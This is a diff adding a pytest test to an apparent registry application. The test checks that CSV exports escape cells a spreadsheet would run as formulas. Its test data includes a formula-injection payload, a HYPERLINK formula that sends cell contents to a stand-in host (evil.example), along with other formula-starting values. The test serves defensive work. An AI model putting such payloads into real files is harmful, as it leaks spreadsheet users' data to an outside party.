@@ -3,15 +3,18 @@ persons, officials, dates and localities are shown as the profile declares."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 from pathlib import Path
 
 import pytest
 import yaml
 
 from habeas.accounts.models import AuditEvent
+from habeas.core.spreadsheet import FORMULA_STARTS
 from habeas.registry.models import Person
-from habeas.reports.redaction import PROFILE_DIR, profile_read
+from habeas.reports.redaction import PROFILE_DIR, profile_read, profiles
 from habeas.reports.selectors import person_pseudonym
 from habeas.reports.services import ExportError
 from tests.protected import leaks, protected_texts
@@ -219,3 +222,18 @@ def test_an_unknown_format_is_refused_and_nothing_is_recorded(world):
     with pytest.raises(ExportError, match="unknown export format 'xml'"):
         export(world["member"], "public", "xml")
     assert not AuditEvent.objects.filter(action="export").exists()
+
+
+@pytest.mark.parametrize("profile", profiles())
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(world, profile):
+    from habeas.registry.models import Organisation
+
+    typed = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    organisations = list(Organisation.objects.order_by("pk")[: len(typed)])
+    for organisation, name in zip(organisations, typed, strict=True):
+        Organisation.objects.filter(pk=organisation.pk).update(name=name)
+    blob, _ = export(world["member"], profile, "csv")
+    rows = list(csv.DictReader(io.StringIO(unzip(blob)["registry.organisation.csv"], newline="")))
+    names = {row["name"] for row in rows}
+    assert {f"'{name}" for name in typed} <= names
+    assert not any(name.startswith(FORMULA_STARTS) for row in rows for name in row.values())
